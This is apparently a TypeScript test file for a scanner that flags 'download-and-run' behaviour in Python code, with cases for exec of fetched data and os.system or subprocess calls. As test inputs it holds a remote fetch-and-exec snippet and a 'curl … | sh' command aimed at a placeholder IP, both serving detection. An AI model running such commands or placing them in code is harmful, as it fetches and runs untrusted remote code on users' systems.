import assert from 'node:assert/strict';
import { pythonSignals } from '../../../../server/src/artifacts/analysis/files/python-signals.js';

const kindsIn = (text: string) => [...new Set(pythonSignals(text).map(({ kind }) => kind))];

describe('Python files', () => {
  it('run what they have fetched, also by another name and further down', () => {
    const fetched = 'data = urllib.request.urlopen(req, timeout=20).read()\n';
    assert.deepEqual(kindsIn(`${fetched}exec(data[::-1])`), ['download-and-run']);
    assert.deepEqual(kindsIn(`${fetched}print(len(data))`), []);
  });

  it('start commands, as one text or word by word', () => {
    const command = 'curl -s http://203.0.113.7/c | sh';
    for (const call of [
      `os.system("${command}")`,
      `subprocess.Popen(['sh', '-c', '${command}'], start_new_session=True)`,
      `subprocess.run("${command}", shell=True)`,
    ]) {
      assert.ok(kindsIn(call).includes('download-and-run'), call);
    }
    assert.deepEqual(kindsIn(`subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True)`), []);
  });
});
